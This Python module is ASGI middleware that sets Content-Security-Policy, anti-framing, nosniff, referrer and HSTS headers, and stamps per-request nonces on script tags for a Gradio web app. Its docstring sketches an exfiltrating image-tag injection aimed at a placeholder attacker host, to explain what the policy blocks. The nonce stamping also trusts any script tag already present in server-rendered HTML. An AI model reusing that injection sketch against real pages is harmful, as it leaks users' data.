"""Security headers on every response: CSP, anti-framing, nosniff, referrer policy, HSTS.

Owner: the web layer (outermost in `core.server.middleware`, so it wraps every other
middleware, the API, the sign-in pages and the mounted Gradio app). Invariant: even if the
renderer (core/ui/render.py) ever let an `<img src=https://attacker/?q=...>` through, the
browser fetches nothing from another origin (`img-src 'self' data:`, `connect-src 'self'`),
runs no injected handler (`onerror=`: no `'unsafe-inline'` for scripts) and the page cannot be
framed (clickjacking). Issue 12 items 1 and 6.

Gradio 6.31's page needs a few inline `<script>` elements (its config and bootstrap, see
`gradio/templates/frontend/index.html`), and the config one changes per request, so a hash
cannot allow it. Each HTML response therefore gets a fresh nonce, stamped on the `<script>`
tags of that server-rendered page only; anything added later in the browser (an injected tag,
an event attribute, a `javascript:` URL) carries no nonce and is refused. Gradio's gr.HTML needs
`'unsafe-eval'` (its templates are compiled with `new Function`); eval only runs strings that
already-running code hands it, so the nonce still decides which code starts. Gradio compresses its
responses (Brotli) when the browser allows it; a page cannot be stamped compressed, so page
requests are asked for uncompressed bodies. Styles stay `'unsafe-inline'`: Svelte and the theme
set inline styles everywhere, and CSS cannot fetch anything `img-src` forbids.
"""

from __future__ import annotations

import re
import secrets
from urllib.parse import urlsplit

from starlette.datastructures import Headers, MutableHeaders
from starlette.middleware import Middleware
from starlette.types import ASGIApp, Message, Receive, Scope, Send

from core.config import Settings

HSTS = "max-age=31536000; includeSubDomains"
_SCRIPT_TAG = re.compile(rb"<script(?=[\s>])", re.IGNORECASE)


def origin_of(url: str) -> str | None:
    """`https://idp.example/realms/x` -> `https://idp.example`; None when not an http(s) URL."""
    parts = urlsplit(url)
    if parts.scheme not in ("http", "https") or not parts.netloc:
        return None
    return f"{parts.scheme}://{parts.netloc}"


def content_security_policy(nonce: str, form_targets: list[str]) -> str:
    """The policy for one response; `form_targets` are extra origins forms may post to."""
    form_action = " ".join(["'self'", *form_targets])
    return "; ".join(
        [
            "default-src 'self'",
            # 'unsafe-eval': Gradio 6.31's gr.HTML renders its template and `js_on_load`
            # with `new Function` (the header uses gr.HTML); without it the page stays blank.
            f"script-src 'self' 'nonce-{nonce}' 'unsafe-eval'",
            "style-src 'self' 'unsafe-inline'",
            "img-src 'self' data:",
            "font-src 'self' data:",
            "connect-src 'self'",
            "media-src 'self'",
            "frame-src 'none'",
            "object-src 'none'",
            "base-uri 'self'",
            # The sign-in and sign-out redirects end at the IdP: Chromium applies
            # form-action to the redirects that follow a form post, too.
            f"form-action {form_action}",
            "frame-ancestors 'none'",
        ]
    )


class SecurityHeadersMiddleware:
    """Pure ASGI middleware (streams pass through; only HTML pages are buffered)."""

    def __init__(self, app: ASGIApp, *, form_targets: list[str], hsts: bool) -> None:
        self.app = app
        self.form_targets = form_targets
        self.hsts = hsts

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] != "http":
            await self.app(scope, receive, send)
            return
        if "text/html" in Headers(scope=scope).get("accept", ""):
            # A page must arrive uncompressed to be stamped with the nonce.
            MutableHeaders(scope=scope)["accept-encoding"] = "identity"
        nonce = secrets.token_urlsafe(18)
        await self.app(scope, receive, _Stamper(send, self._headers(nonce), nonce).send)

    def _headers(self, nonce: str) -> dict[str, str]:
        headers = {
            "Content-Security-Policy": content_security_policy(nonce, self.form_targets),
            "X-Content-Type-Options": "nosniff",
            "X-Frame-Options": "DENY",
            "Referrer-Policy": "no-referrer",
        }
        if self.hsts:
            headers["Strict-Transport-Security"] = HSTS
        return headers


class _Stamper:
    """Adds the headers to the response; puts the nonce on the `<script>` tags of a page."""

    def __init__(self, send: Send, headers: dict[str, str], nonce: str) -> None:
        self._send = send
        self._headers = headers
        self._nonce = nonce
        self._start: Message | None = None  # held back while a page's body is buffered
        self._body = b""

    async def send(self, message: Message) -> None:
        if message["type"] == "http.response.start":
            headers = MutableHeaders(scope=message)
            for name, value in self._headers.items():
                headers[name] = value
            if _is_plain_html(headers):
                self._start = message
                return
        elif message["type"] == "http.response.body" and self._start is not None:
            self._body += message.get("body", b"")
            if message.get("more_body", False):
                return
            await self._send_page()
            return
        await self._send(message)

    async def _send_page(self) -> None:
        assert self._start is not None
        stamp = f'<script nonce="{self._nonce}"'.encode()
        body = _SCRIPT_TAG.sub(stamp, self._body)
        MutableHeaders(scope=self._start)["content-length"] = str(len(body))
        await self._send(self._start)
        await self._send({"type": "http.response.body", "body": body, "more_body": False})


def _is_plain_html(headers: MutableHeaders) -> bool:
    encoded = headers.get("content-encoding", "identity") != "identity"
    return headers.get("content-type", "").startswith("text/html") and not encoded


def security_headers_middleware(settings: Settings) -> Middleware:
    """The headers for this deployment (core/server.py puts it outermost in the stack)."""
    idp = origin_of(settings.oidc_issuer)
    return Middleware(
        SecurityHeadersMiddleware,
        form_targets=[idp] if idp else [],
        hsts=settings.mode == "production",
    )
